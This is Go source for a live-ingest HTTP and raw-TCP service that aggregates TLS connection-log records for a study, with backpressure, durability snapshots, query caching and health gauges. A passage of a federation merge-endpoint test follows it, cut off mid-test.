//	                      query expression)
//	POST /query           evaluate an ad-hoc metric expression: a JSON body
//	                      {"query": "pct(version:tls12 / established)"} or
//	                      {"expr": {...}} (the analysis.Expr JSON encoding)
//	GET  /healthz         liveness: record count, generation, month count
//
// Every JSON response carries an X-Generation header with the served
// aggregate generation, so pollers can detect staleness without
// re-downloading bodies. Multiple named studies are hosted by a Router
// (router.go), which nests a whole Server under /studies/{id}/.
//
// Ingestion is sharded: each stream parses into a private notary.Aggregate
// (no lock contention on the parse) and folds into the live study via
// Aggregate.Merge every FlushEvery records and at stream end. The merged
// content is identical to serial ingestion for every flush cadence, so a
// served study's figures and scalars match the offline loadlog path
// exactly. With WithQueueBound the fold is decoupled further: shards travel
// a bounded queue to a single merge loop, and a stream that finds the queue
// full is shed (429 / "busy") instead of buffering without bound.
//
// Raw TCP ingest shares one port for both wire formats: the first bytes of
// each connection are sniffed for the batch magic, and anything else takes
// the TSV debug path.
package service

import (
	"bufio"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"tlsage/internal/analysis"
	"tlsage/internal/core"
	"tlsage/internal/federation"
	"tlsage/internal/notary"
)

// DefaultFlushEvery is the per-stream shard size: small enough that
// /healthz and queries see fresh data while a long stream is still
// arriving, large enough to amortize the merge lock.
const DefaultFlushEvery = 4096

// DefaultRetryAfter is the Retry-After hint (seconds) sent with a 429 when
// the in-flight stream limit or the merge queue sheds an ingest.
const DefaultRetryAfter = 1

// Content types negotiated by POST /ingest. Anything other than the batch
// type (including an absent header) takes the TSV path, so existing feeders
// keep working unchanged.
const (
	// ContentTypeTSV is the textual connection-log stream (LogWriter format).
	ContentTypeTSV = "text/tab-separated-values"
	// ContentTypeBatch is the length-prefixed binary batch framing
	// (notary.EncodeBatch / notary.ReadBatches).
	ContentTypeBatch = "application/x-tlsage-batch"
)

// Server is the live-ingest front end over one study.
type Server struct {
	study      *core.Study
	flushEvery int
	// logSink, when set, receives every ingested record before it reaches
	// the aggregate — the durable tee (e.g. a LogWriter). It is wrapped in
	// a LockedSink so concurrent streams interleave whole records.
	logSink *notary.LockedSink
	mux     *http.ServeMux

	// Backpressure: sem bounds concurrently ingesting streams (nil =
	// unbounded); saturated arrivals are shed with 429/Retry-After (HTTP)
	// or a "busy" status line (TCP) instead of buffering without bound.
	sem         chan struct{}
	maxInFlight int
	inFlight    atomic.Int64
	shed        atomic.Uint64
	// maxBody caps POST /ingest request bodies (0 = unlimited); overruns
	// answer 413 so one oversized stream cannot exhaust the collector.
	maxBody int64
	// idleTimeout bounds how long a raw-TCP ingest connection may sit
	// without delivering bytes; a stalled client errors out instead of
	// wedging Close behind the handler drain (0 = no deadline).
	idleTimeout time.Duration

	// queue, when WithQueueBound is configured, decouples stream readers
	// from the study write path: parsed shards travel this bounded channel
	// to a single merge loop, and a full queue sheds the stream instead of
	// buffering it. queueGate is the test hook newMergeQueue threads to the
	// loop.
	queue      *mergeQueue
	queueBound int
	queueGate  chan struct{}

	// Wire-format ingest gauges for /healthz.
	binaryFrames  atomic.Uint64
	binaryRecords atomic.Uint64
	tsvRecords    atomic.Uint64

	// snaps, when durability is configured, snapshots the study at ingest
	// flush boundaries / on a timer / at Close.
	snaps   *snapshotManager
	durOpts *DurabilityOptions

	// queryCache, when configured, fronts POST /query with the study's
	// generation-keyed result cache (usually one cache shared across every
	// study a Router hosts). Held here only for the /healthz gauges — the
	// lookup itself lives in core.Study.
	queryCache *analysis.QueryCache

	// Federation: shardObs are run after every shard that merges into the
	// study (the tee feeding an attached edge pusher and union studies), fed
	// tracks the core-side POST /merge cursors and union gauges, and pusher
	// (when WithPusher is configured) is flushed and closed with the server.
	shardObs []func(*notary.Aggregate)
	fed      fedState
	pusher   *federation.Pusher

	// tcpMu guards tcpLns, the raw-TCP listeners Close shuts down; connWG
	// tracks in-flight TCP ingest handlers so Close can drain them before
	// flushing the durable tee.
	tcpMu  sync.Mutex
	tcpLns []net.Listener
	connWG sync.WaitGroup
}

// Option configures a Server.
type Option func(*Server)

// WithFlushEvery sets the per-stream shard size (records buffered before a
// merge into the live aggregate). n <= 0 keeps the default.
func WithFlushEvery(n int) Option {
	return func(s *Server) {
		if n > 0 {
			s.flushEvery = n
		}
	}
}

// WithLogSink tees every ingested record into sink (typically a
// notary.LogWriter over a file) before aggregation. The server wraps it for
// concurrent delivery and closes it in Close.
func WithLogSink(sink notary.Sink) Option {
	return func(s *Server) { s.logSink = notary.NewLockedSink(sink) }
}

// WithMaxInFlight bounds how many ingest streams (HTTP + TCP combined) may
// be in flight at once. Saturated HTTP ingests answer 429 with a
// Retry-After header; saturated TCP connections get a "busy" status line.
// n <= 0 leaves ingestion unbounded.
func WithMaxInFlight(n int) Option {
	return func(s *Server) {
		if n > 0 {
			s.maxInFlight = n
			s.sem = make(chan struct{}, n)
		}
	}
}

// WithMaxBodyBytes caps POST /ingest request bodies at n bytes; an
// oversized stream is cut off with 413 and the prefix ingested so far is
// kept. n <= 0 leaves bodies unlimited.
func WithMaxBodyBytes(n int64) Option {
	return func(s *Server) {
		if n > 0 {
			s.maxBody = n
		}
	}
}

// WithIdleTimeout sets the idle read deadline on raw-TCP ingest
// connections: each successful read rearms it, and a connection that
// delivers nothing for d errors out. Without it one stalled client blocks
// Server.Close forever behind the handler drain. d <= 0 disables the
// deadline.
func WithIdleTimeout(d time.Duration) Option {
	return func(s *Server) {
		if d > 0 {
			s.idleTimeout = d
		}
	}
}

// WithQueueBound routes shard merges through a bounded queue of n parsed
// shards drained by a single merge loop. Stream readers then never block on
// the study's write lock: a reader whose shard finds the queue full is shed
// with 429/Retry-After (HTTP) or a "busy" status line (TCP) rather than
// stacking up behind a slow merge. n <= 0 keeps the inline-merge path.
func WithQueueBound(n int) Option {
	return func(s *Server) {
		if n > 0 {
			s.queueBound = n
		}
	}
}

// WithQueryCache attaches a query result cache to the served study, with id
// namespacing its entries (the Router passes the study id, so one cache
// serves every hosted study without key collisions). POST /query responses
// then carry X-Cache: hit|miss and /healthz reports the cache gauges. A nil
// cache disables caching.
func WithQueryCache(c *analysis.QueryCache, id string) Option {
	return func(s *Server) {
		s.queryCache = c
		s.study.SetQueryCache(c, id)
	}
}

// WithDurability attaches a snapshot manager: the study is snapshotted into
// opts.Dir at ingest flush boundaries (opts.EveryRecords), on a timer
// (opts.Interval) and at Close, keeping the last opts.Keep snapshots. Pair
// it with RecoverStudy at startup for crash recovery. An empty Dir is a
// no-op.
func WithDurability(opts DurabilityOptions) Option {
	return func(s *Server) {
		if opts.Dir != "" {
			s.durOpts = &opts
		}
	}
}

// NewServer builds a server over study — usually core.NewLiveStudy(), but
// any already-run study works too (serving a batch result while ingesting
// more records on top).
func NewServer(study *core.Study, opts ...Option) *Server {
	s := &Server{study: study, flushEvery: DefaultFlushEvery}
	for _, o := range opts {
		o(s)
	}
	if s.durOpts != nil {
		s.snaps = newSnapshotManager(study, *s.durOpts)
	}
	if s.queueBound > 0 {
		var onMerge func()
		if s.snaps != nil {
			onMerge = s.snaps.noteProgress
		}
		// noteShard is bound as a method value: observers appended later
		// (Router.Union, under the assemble-before-serving contract) are still
		// seen by the merge loop.
		s.queue = newMergeQueue(study, s.queueBound, onMerge, s.noteShard, s.queueGate)
	}
	mux := http.NewServeMux()
	mux.HandleFunc("POST /ingest", s.handleIngest)
	mux.HandleFunc("POST /merge", s.handleMerge)
	mux.HandleFunc("GET /figures", s.handleFigures)
	mux.HandleFunc("GET /figure/{name}", s.handleFigure)
	mux.HandleFunc("GET /scalars", s.handleScalars)
	mux.HandleFunc("GET /metrics", s.handleMetrics)
	mux.HandleFunc("POST /query", s.handleQuery)
	mux.HandleFunc("GET /healthz", s.handleHealthz)
	s.mux = mux
	return s
}

// Study exposes the served study (e.g. for parity checks).
func (s *Server) Study() *core.Study { return s.study }

// Handler returns the HTTP handler (ingest + query endpoints).
func (s *Server) Handler() http.Handler { return s.mux }

// Close releases the server's durable resources: raw-TCP listeners stop
// accepting, in-flight TCP ingest streams are drained to completion, and
// only then is the teed log sink flushed and closed — so every record that
// reached the aggregate is also on disk. With durability configured a final
// snapshot of the drained state is written last (the SIGTERM path). The
// drain is bounded when WithIdleTimeout is set: a stalled client's read
// deadline expires and its handler exits instead of wedging Close.
func (s *Server) Close() error {
	s.tcpMu.Lock()
	lns := s.tcpLns
	s.tcpLns = nil
	s.tcpMu.Unlock()
	var first error
	for _, ln := range lns {
		if err := ln.Close(); err != nil && first == nil {
			first = err
		}
	}
	s.connWG.Wait()
	if s.queue != nil {
		// Drain queued shards into the study before the tee flushes and the
		// final snapshot is cut, so durable state matches what merged.
		s.queue.close()
	}
	if s.logSink != nil {
		if err := s.logSink.Close(); err != nil && first == nil {
			first = err
		}
	}
	if s.pusher != nil {
		// After the ingest paths drained: the final push covers every shard
		// the study accepted.
		if err := s.pusher.Close(); err != nil && first == nil {
			first = err
		}
	}
	if s.snaps != nil {
		s.snaps.close()
	}
	return first
}

// acquireStream claims an in-flight ingest slot, reporting false (and
// counting the shed) when the limit is saturated.
func (s *Server) acquireStream() bool {
	if s.sem != nil {
		select {
		case s.sem <- struct{}{}:
		default:
			s.shed.Add(1)
			return false
		}
	}
	s.inFlight.Add(1)
	return true
}

// releaseStream returns an ingest slot.
func (s *Server) releaseStream() {
	s.inFlight.Add(-1)
	if s.sem != nil {
		<-s.sem
	}
}

// ingestStats summarizes one ingested stream.
type ingestStats struct {
	Records    int    `json:"records"`
	Generation uint64 `json:"generation"`
}

// ingest drains one record stream into the live study — TSV with ReadLog's
// line semantics or, when binary is set, the batch framing via ReadBatches —
// returning how many records were applied. On a malformed line or frame the
// error is returned and everything already flushed stays applied — a live
// collector keeps what it has seen. A merge-queue shed surfaces as
// errIngestBusy with Records reporting only what actually reached the study,
// so feeders can tell a cleanly shed stream (0 applied, safe to retry) from
// a part-applied one.
func (s *Server) ingest(r io.Reader, binary bool) (ingestStats, error) {
	ing := newShardIngester(s.study, s.flushEvery, s.logSink)
	ing.onShard = s.noteShard
	if s.queue != nil {
		ing.queue = s.queue
		ing.qs = &queueStream{}
	} else if s.snaps != nil {
		// Flush boundaries double as durability checkpoints: the snapshot
		// record-count trigger is re-checked every time a shard folds in.
		// (In queue mode the merge loop owns this hook instead.)
		ing.onFlush = s.snaps.noteProgress
	}
	var readErr error
	if binary {
		frames, _, err := notary.ReadBatches(r, ing)
		s.binaryFrames.Add(frames)
		s.binaryRecords.Add(uint64(ing.seen))
		readErr = err
	} else {
		readErr = notary.ReadLog(r, ing)
		s.tsvRecords.Add(uint64(ing.seen))
	}
	flushErr := ing.Close()
	var mergeErr error
	if ing.qs != nil {
		// Wait for every shard this stream enqueued to fold in, so the
		// reply's record count and generation describe applied state exactly
		// as on the inline-merge path.
		mergeErr = ing.qs.wait()
	}
	_, _, gen, err := s.study.Counts()
	if err != nil {
		return ingestStats{}, err
	}
	st := ingestStats{Records: ing.total, Generation: gen}
	switch {
	case readErr != nil:
		return st, readErr
	case flushErr != nil:
		return st, flushErr
	default:
		return st, mergeErr
	}
}

// shardIngester accumulates a stream into a private aggregate and merges it
// into the live study every flushEvery records — the sharded ingest path.
type shardIngester struct {
	study *core.Study
	shard *notary.Aggregate
	tee   *notary.LockedSink // optional, may be nil
	every int
	since int
	total int // records applied (or accepted into the queue)
	seen  int // records observed, including any in a shed shard
	// onFlush, when set, runs after every successful merge into the live
	// study — the durability checkpoint hook (inline-merge mode only).
	onFlush func()
	// onShard, when set, receives every successfully merged shard — the
	// federation tee. On the queue path the merge loop owns this hook
	// instead, so it fires only once per shard either way.
	onShard func(*notary.Aggregate)
	// queue/qs, when set, switch flush from inline MergeShard to enqueueing
	// on the server's bounded merge queue under this stream's tracker.
	queue *mergeQueue
	qs    *queueStream
}

func newShardIngester(study *core.Study, every int, tee *notary.LockedSink) *shardIngester {
	if every <= 0 {
		every = DefaultFlushEvery
	}
	return &shardIngester{study: study, shard: study.NewShard(), every: every, tee: tee}
}

// Observe implements notary.Sink: records land in the private shard, with
// the durable tee (if any) written first so the log orders records the way
// they were accepted.
func (si *shardIngester) Observe(r *notary.Record) error {
	if si.tee != nil {
		if err := si.tee.Observe(r); err != nil {
			return err
		}
	}
	si.shard.Add(r)
	si.total++
	si.seen++
	si.since++
	if si.since >= si.every {
		return si.flush()
	}
	return nil
}

// Close folds the remaining shard into the live study. It does not close
// the shared tee — the server owns that.
func (si *shardIngester) Close() error { return si.flush() }

func (si *shardIngester) flush() error {
	if si.since == 0 {
		return nil
	}
	if si.queue != nil {
		if err := si.queue.enqueue(si.qs, si.shard); err != nil {
			// The shed shard never reaches the study: report only applied
			// records so the feeder can tell whether a retry would duplicate.
			si.total -= si.since
			si.shard = si.study.NewShard()
			si.since = 0
			return err
		}
	} else {
		if err := si.study.MergeShard(si.shard); err != nil {
			return err
		}
		if si.onFlush != nil {
			si.onFlush()
		}
		if si.onShard != nil {
			si.onShard(si.shard)
		}
	}
	si.shard = si.study.NewShard()
	si.since = 0
	return nil
}

// --- HTTP handlers ---

func writeJSON(w http.ResponseWriter, status int, v any) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(status)
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	_ = enc.Encode(v) // nothing useful to do about a broken client connection
}

func writeError(w http.ResponseWriter, status int, err error) {
	writeJSON(w, status, map[string]string{"error": err.Error()})
}

// setGeneration stamps the X-Generation staleness header: the aggregate
// generation the response was computed against. Pollers compare headers
// instead of re-downloading bodies.
func (s *Server) setGeneration(w http.ResponseWriter) {
	if _, _, gen, err := s.study.Counts(); err == nil {
		w.Header().Set("X-Generation", strconv.FormatUint(gen, 10))
	}
}

// ingestErrorStatus separates the error classes of a failed ingest so
// clients know whether to fix the payload or retry: an oversized body is
// 413, a malformed line or batch frame (or a line beyond the scanner's
// length ceiling) is 400, a merge-queue shed is 429, and anything else —
// merge or durable-tee failures inside the collector — is 500.
func ingestErrorStatus(err error) int {
	var le *notary.LineError
	var be *notary.BatchError
	var mbe *http.MaxBytesError
	switch {
	case errors.As(err, &mbe):
		return http.StatusRequestEntityTooLarge
	case errors.Is(err, errIngestBusy):
		return http.StatusTooManyRequests
	case errors.As(err, &le), errors.As(err, &be), errors.Is(err, bufio.ErrTooLong):
		return http.StatusBadRequest
	default:
		return http.StatusInternalServerError
	}
}

// bodyCapTracker remembers that the wrapped MaxBytesReader cut the stream
// off. The line scanner treats a read error like EOF, so the cap usually
// surfaces as a parse failure on the torn final line — without the sticky
// flag an oversized body would misreport as 400 instead of 413.
type bodyCapTracker struct {
	r   io.Reader
	hit bool
}

func (b *bodyCapTracker) Read(p []byte) (int, error) {
	n, err := b.r.Read(p)
	var mbe *http.MaxBytesError
	if errors.As(err, &mbe) {
		b.hit = true
	}
	return n, err
}

// isBatchContentType reports whether a Content-Type header selects the
// binary batch framing. Parameters (";charset=..." etc.) are ignored and
// the match is case-insensitive; everything else falls back to TSV so
// pre-batch feeders keep working unchanged.
func isBatchContentType(ct string) bool {
	if i := strings.IndexByte(ct, ';'); i >= 0 {
		ct = ct[:i]
	}
	return strings.EqualFold(strings.TrimSpace(ct), ContentTypeBatch)
}

func (s *Server) handleIngest(w http.ResponseWriter, r *http.Request) {
	if !s.acquireStream() {
		w.Header().Set("Retry-After", strconv.Itoa(DefaultRetryAfter))
		writeError(w, http.StatusTooManyRequests,
			fmt.Errorf("ingest saturated: %d streams in flight", s.maxInFlight))
		return
	}
	defer s.releaseStream()
	body := io.Reader(r.Body)
	var capped *bodyCapTracker
	if s.maxBody > 0 {
		capped = &bodyCapTracker{r: http.MaxBytesReader(w, r.Body, s.maxBody)}
		body = capped
	}
	st, err := s.ingest(body, isBatchContentType(r.Header.Get("Content-Type")))
	s.setGeneration(w)
	if err != nil {
		status := ingestErrorStatus(err)
		if capped != nil && capped.hit {
			status = http.StatusRequestEntityTooLarge
			err = fmt.Errorf("request body exceeds the %d-byte ingest cap: %w", s.maxBody, err)
		}
		if status == http.StatusTooManyRequests {
			// A shed stream is retryable only when nothing was applied; the
			// records count in the body lets the feeder decide (FeedHTTP
			// refuses to blind-retry a part-applied stream).
			w.Header().Set("Retry-After", strconv.Itoa(DefaultRetryAfter))
		}
		writeJSON(w, status, map[string]any{
			"error":      err.Error(),
			"records":    st.Records,
			"generation": st.Generation,
		})
		return
	}
	writeJSON(w, http.StatusOK, st)
}

func (s *Server) handleFigures(w http.ResponseWriter, r *http.Request) {
	f, err := s.study.Frame()
	if err != nil {
		writeError(w, http.StatusServiceUnavailable, err)
		return
	}
	w.Header().Set("X-Generation", strconv.FormatUint(f.Generation(), 10))
	writeJSON(w, http.StatusOK, f.Figures())
}

func (s *Server) handleFigure(w http.ResponseWriter, r *http.Request) {
	name := r.PathValue("name")
	f, err := s.study.Frame()
	if err != nil {
		writeError(w, http.StatusServiceUnavailable, err)
		return
	}
	w.Header().Set("X-Generation", strconv.FormatUint(f.Generation(), 10))
	var (
		fig analysis.Figure
		ok  bool
	)
	if n, convErr := strconv.Atoi(name); convErr == nil {
		fig, ok = f.FigureByNum(n)
	} else {
		fig, ok = f.FigureByName(name) // case-insensitive catalog lookup
	}
	if !ok {
		// The miss body lists the valid catalog names so clients can
		// self-correct without a second /metrics round trip.
		writeJSON(w, http.StatusNotFound, map[string]any{
			"error": fmt.Sprintf("no figure %q", name),
			"valid": analysis.CatalogNames(),
		})
		return
	}
	writeJSON(w, http.StatusOK, fig)
}

func (s *Server) handleScalars(w http.ResponseWriter, r *http.Request) {
	scalars, gen, err := s.study.ScalarsWithGeneration()
	if err != nil {
		writeError(w, http.StatusServiceUnavailable, err)
		return
	}
	w.Header().Set("X-Generation", strconv.FormatUint(gen, 10))
	writeJSON(w, http.StatusOK, scalars)
}

func (s *Server) handleMetrics(w http.ResponseWriter, r *http.Request) {
	s.setGeneration(w)
	writeJSON(w, http.StatusOK, analysis.Catalog())
}

// queryRequest is the POST /query body: either the text grammar or the
// Expr JSON encoding (query wins when both are present).
type queryRequest struct {
	Query string         `json:"query"`
	Expr  *analysis.Expr `json:"expr"`
}

func (s *Server) handleQuery(w http.ResponseWriter, r *http.Request) {
	var req queryRequest
	if err := json.NewDecoder(io.LimitReader(r.Body, 1<<20)).Decode(&req); err != nil {
		s.setGeneration(w)
		writeError(w, http.StatusBadRequest, fmt.Errorf("decoding query request: %w", err))
		return
	}
	// Queries go through the study's compiled-plan path, which consults the
	// result cache (when one is attached) and reports the exact generation
	// the body was computed against — the X-Generation header therefore
	// always describes the data in the body even while ingestion advances
	// the study, and X-Cache tells dashboards whether the hot path was hit.
	var (
		res  analysis.QueryResult
		body []byte
		gen  uint64
		hit  bool
		err  error
	)
	switch {
	case req.Query != "":
		res, body, gen, hit, err = s.study.QueryInfoJSON(req.Query)
	case req.Expr != nil:
		res, body, gen, hit, err = s.study.QueryExprInfoJSON(req.Expr)
	default:
		s.setGeneration(w)
		writeError(w, http.StatusBadRequest,
			fmt.Errorf(`empty query request (want {"query": "..."} or {"expr": {...}})`))
		return
	}
	if err != nil {
		if errors.Is(err, core.ErrNotRun) {
			writeError(w, http.StatusServiceUnavailable, err)
			return
		}
		s.setGeneration(w)
		writeError(w, http.StatusBadRequest, err)
		return
	}
	w.Header().Set("X-Generation", strconv.FormatUint(gen, 10))
	if hit {
		w.Header().Set("X-Cache", "hit")
	} else {
		w.Header().Set("X-Cache", "miss")
	}
	if body != nil {
		// The cache stored the serialized response next to the result
		// (EncodeJSONBody matches writeJSON byte for byte), so a hit skips
		// re-marshalling entirely.
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusOK)
		_, _ = w.Write(body)
		return
	}
	writeJSON(w, http.StatusOK, res)
}

func (s *Server) handleHealthz(w http.ResponseWriter, r *http.Request) {
	records, months, gen, err := s.study.Counts()
	if err != nil {
		writeError(w, http.StatusServiceUnavailable, err)
		return
	}
	w.Header().Set("X-Generation", strconv.FormatUint(gen, 10))
	health := map[string]any{
		"status":     "ok",
		"records":    records,
		"months":     months,
		"generation": gen,
		// Backpressure gauges: streams currently ingesting and arrivals
		// shed since start (429 / TCP busy).
		"in_flight": s.inFlight.Load(),
		"shed":      s.shed.Load(),
	}
	if s.sem != nil {
		health["max_in_flight"] = s.maxInFlight
	}
	// Wire-format gauges: how many records arrived per framing, and how many
	// binary frames were decoded (records/frame tracks producer batch size).
	health["ingest"] = map[string]any{
		"binary_frames":  s.binaryFrames.Load(),
		"binary_records": s.binaryRecords.Load(),
		"tsv_records":    s.tsvRecords.Load(),
	}
	if s.queue != nil {
		// Merge-queue gauges: depth/lag say how far merging trails parsing,
		// shed_full how often saturation turned arrivals away.
		health["ingest_queue"] = s.queue.stats()
	}
	if s.snaps != nil {
		snapGen, age, written, errs := s.snaps.status()
		ageSeconds := -1.0 // no snapshot written by this process yet
		if age >= 0 {
			ageSeconds = age.Seconds()
		}
		health["snapshot_generation"] = snapGen
		health["snapshot_age_seconds"] = ageSeconds
		health["snapshots_written"] = written
		health["snapshot_errors"] = errs
	}
	if s.queryCache != nil {
		// Gauges are cache-wide: with a Router-shared cache every study
		// reports the same numbers, which is what capacity planning wants.
		health["query_cache"] = s.queryCache.Stats()
	}
	// Federation gauges: the edge block reports the attached pusher (deltas
	// shipped, retained-but-unshipped state, last push age, upstream errors),
	// the core block the per-source merge cursors and union children. A
	// server that is neither an edge nor a merge target omits the key.
	fedBlock := map[string]any{}
	if s.pusher != nil {
		fedBlock["edge"] = federationEdgeHealth(s.pusher.Stats())
	}
	if coreBlock := s.fed.health(); coreBlock != nil {
		fedBlock["core"] = coreBlock
	}
	if len(fedBlock) > 0 {
		health["federation"] = fedBlock
	}
	// fp: family gauges, off the study's cached frame (rebuilt only when the
	// generation moved): distinct fingerprints seen, the per-frame column cap,
	// and the share of fingerprinted volume folded into the "other" bucket.
	if f, err := s.study.Frame(); err == nil {
		distinct, topK, otherShare := f.FingerprintGauges()
		health["fingerprints"] = map[string]any{
			"distinct":    distinct,
			"top_k":       topK,
			"other_share": otherShare,
		}
	}
	writeJSON(w, http.StatusOK, health)
}

// --- raw TCP ingest ---

// maxAcceptBackoff caps the retry delay after transient Accept errors.
const maxAcceptBackoff = time.Second

// ServeTCP accepts raw record streams on ln: each connection is one log
// stream, ingested with the same semantics as POST /ingest; the server
// replies with a single status line ("ok <records> <generation>",
// "busy <retry-after-seconds>" when the in-flight limit or merge queue
// sheds the stream before anything applied, or "error: ...") and closes the
// connection. The first bytes of each connection are sniffed: the batch
// magic selects the binary framing, anything else (including an empty
// stream) is read as TSV — both formats share the port, TSV staying the
// debug path one can drive with netcat. Transient Accept errors (EMFILE,
// timeouts) are retried with capped exponential backoff instead of killing
// the loop. It returns after the listener closes (Close does that).
func (s *Server) ServeTCP(ln net.Listener) error {
	s.tcpMu.Lock()
	s.tcpLns = append(s.tcpLns, ln)
	s.tcpMu.Unlock()
	defer s.connWG.Wait()
	var backoff time.Duration
	for {
		conn, err := ln.Accept()
		if err != nil {
			if errors.Is(err, net.ErrClosed) {
				return nil
			}
			// One exhausted-FD burst or accept timeout must not end a
			// multi-year collection: back off and try again. Only
			// non-transient errors abort the loop.
			if isTransientAcceptErr(err) {
				if backoff == 0 {
					backoff = 5 * time.Millisecond
				} else if backoff *= 2; backoff > maxAcceptBackoff {
					backoff = maxAcceptBackoff
				}
				time.Sleep(backoff)
				continue
			}
			return err
		}
		backoff = 0
		if !s.acquireStream() {
			// Saturated: shed with a status line the feeder understands
			// (tlstrend feed -retry backs off and retries on "busy"). Stop
			// reading first — the client may already be streaming, and
			// closing with unread inbound data would RST the reply away.
			if tc, ok := conn.(*net.TCPConn); ok {
				_ = tc.CloseRead()
			}
			s.writeTCPReply(conn, fmt.Sprintf("busy %d\n", DefaultRetryAfter))
			conn.Close()
			continue
		}
		s.connWG.Add(1)
		go func() {
			defer s.connWG.Done()
			defer s.releaseStream()
			defer conn.Close()
			src := io.Reader(conn)
			if s.idleTimeout > 0 {
				src = &idleDeadlineReader{conn: conn, idle: s.idleTimeout}
			}
			// Sniff under the idle deadline too — a client that connects and
			// never sends its first bytes must still time out.
			br, binary := notary.SniffReader(src)
			st, err := s.ingest(br, binary)
			if err != nil {
				// The client may still be mid-stream; stop reading without
				// resetting the connection so the error line below survives
				// long enough to be read (closing with unread inbound data
				// would RST the queued reply away).
				if tc, ok := conn.(*net.TCPConn); ok {
					_ = tc.CloseRead()
				}
				if errors.Is(err, errIngestBusy) && st.Records == 0 {
					// Cleanly shed: nothing applied, so the feeder may back
					// off and replay the stream without duplicating records.
					s.writeTCPReply(conn, fmt.Sprintf("busy %d\n", DefaultRetryAfter))
					return
				}
				s.writeTCPReply(conn, fmt.Sprintf("error: %v\n", err))
				return
			}
			s.writeTCPReply(conn, fmt.Sprintf("ok %d %d\n", st.Records, st.Generation))
		}()
	}
}

// writeTCPReply writes the status line under the idle deadline (when
// configured), so an unreachable client cannot wedge the handler in the
// reply either.
func (s *Server) writeTCPReply(conn net.Conn, line string) {
	if s.idleTimeout > 0 {
		_ = conn.SetWriteDeadline(time.Now().Add(s.idleTimeout))
	}
	_, _ = io.WriteString(conn, line)
}

// isTransientAcceptErr reports whether an Accept error is worth retrying:
// timeouts and the temporary class (EMFILE/ENFILE, aborted connections).
func isTransientAcceptErr(err error) bool {
	var ne net.Error
	if !errors.As(err, &ne) {
		return false
	}
	if ne.Timeout() {
		return true
	}
	// net.Error.Temporary is deprecated for new APIs but remains exactly
	// the accept-loop retry signal (net/http's Server.Serve relies on the
	// same class).
	type temporary interface{ Temporary() bool }
	if te, ok := err.(temporary); ok && te.Temporary() {
		return true
	}
	return false
}

// idleDeadlineReader rearms a read deadline of idle before every Read, so a
// connection only errors out after delivering nothing for a full idle
// window — slow-but-live feeders keep streaming, stalled ones release their
// handler (and their in-flight slot) instead of wedging shutdown.
type idleDeadlineReader struct {
	conn net.Conn
	idle time.Duration
}

func (ir *idleDeadlineReader) Read(p []byte) (int, error) {
	if err := ir.conn.SetReadDeadline(time.Now().Add(ir.idle)); err != nil {
		return 0, err
	}
	return ir.conn.Read(p)
}
