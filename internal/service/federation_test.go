package service

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"tlsage/internal/core"
	"tlsage/internal/federation"
	"tlsage/internal/notary"
	"tlsage/internal/registry"
	"tlsage/internal/timeline"
)

// fedShard builds a deterministic pre-aggregated shard for merge-endpoint
// tests (the parity tests use real record logs instead).
func fedShard(seed uint64, months int) *notary.Aggregate {
	agg := notary.NewAggregate()
	m := timeline.M(2012, time.March)
	for i := 0; i < months; i++ {
		i := uint64(i)
		agg.UpdateMonth(m, 5+i, func(ms *notary.MonthStats) {
			ms.Total += int(5 + i)
			ms.Established += int(3 + seed)
			ms.ByVersion[registry.VersionTLS12] += int(2 + seed)
			ms.ByClass["RC4"] += int(1 + i)
		})
		m = m.Next()
	}
	return agg
}

// postDeltaFrame POSTs one framed delta and decodes the MergeAck reply.
func postDeltaFrame(t *testing.T, url string, d *federation.Delta) (int, federation.MergeAck) {
	t.Helper()
	frame, err := federation.EncodeDelta(d)
	if err != nil {
		t.Fatalf("EncodeDelta: %v", err)
	}
	resp, err := http.Post(url+"/merge", federation.ContentTypeDelta, bytes.NewReader(frame))
	if err != nil {
		t.Fatalf("POST /merge: %v", err)
	}
	raw, err := io.ReadAll(resp.Body)
	resp.Body.Close()
	if err != nil {
		t.Fatal(err)
	}
	var ack federation.MergeAck
	if err := json.Unmarshal(raw, &ack); err != nil {
		t.Fatalf("decoding merge ack: %v\n%s", err, raw)
	}
	return resp.StatusCode, ack
}

// TestMergeEndpoint covers the core half of the delta protocol on one
// server: sequenced applies, idempotent duplicates, overlap conflicts, gap
// acceptance, garbage rejection, and the /healthz federation core block.
func TestMergeEndpoint(t *testing.T) {
	srv := NewServer(core.NewLiveStudy())
	defer srv.Close()
	ts := httptest.NewServer(srv.Handler())
	defer ts.Close()

	d1 := fedShard(1, 4)
	d2 := fedShard(2, 6)
	both := notary.NewAggregate()
	both.Merge(d1)
	both.Merge(d2)

	status, ack := postDeltaFrame(t, ts.URL, &federation.Delta{Source: "edge-a", Base: 0, Agg: d1})
	if status != http.StatusOK || ack.Records != d1.Generation() || ack.AppliedThrough != d1.Generation() {
		t.Fatalf("first delta: %d %+v", status, ack)
	}
	if ack.Generation != d1.Generation() {
		t.Fatalf("study generation %d after first delta, want %d", ack.Generation, d1.Generation())
	}

	// Replay of the identical delta: idempotent duplicate, nothing applied.
	status, ack = postDeltaFrame(t, ts.URL, &federation.Delta{Source: "edge-a", Base: 0, Agg: d1})
	if status != http.StatusOK || !ack.Duplicate || ack.Records != 0 {
		t.Fatalf("duplicate delta: %d %+v", status, ack)
	}

	// The continuation applies on top.
	status, ack = postDeltaFrame(t, ts.URL, &federation.Delta{Source: "edge-a", Base: d1.Generation(), Agg: d2})
	if status != http.StatusOK || ack.AppliedThrough != both.Generation() {
		t.Fatalf("continuation delta: %d %+v", status, ack)
	}

	// An exact replay of the tail is another idempotent duplicate.
	status, ack = postDeltaFrame(t, ts.URL, &federation.Delta{Source: "edge-a", Base: d1.Generation(), Agg: d2})
	if status != http.StatusOK || !ack.Duplicate {
		t.Fatalf("tail replay: %d %+v, want duplicate ack", status, ack)
	}

	// A partial overlap — stale base, records extending past the cursor —
	// must 409 with the cursor, not double-count.
	status, ack = postDeltaFrame(t, ts.URL, &federation.Delta{Source: "edge-a", Base: d1.Generation(), Agg: both})
	if status != http.StatusConflict || ack.AppliedThrough != both.Generation() {
		t.Fatalf("overlap delta: %d %+v, want 409 with cursor %d", status, ack, both.Generation())
	}

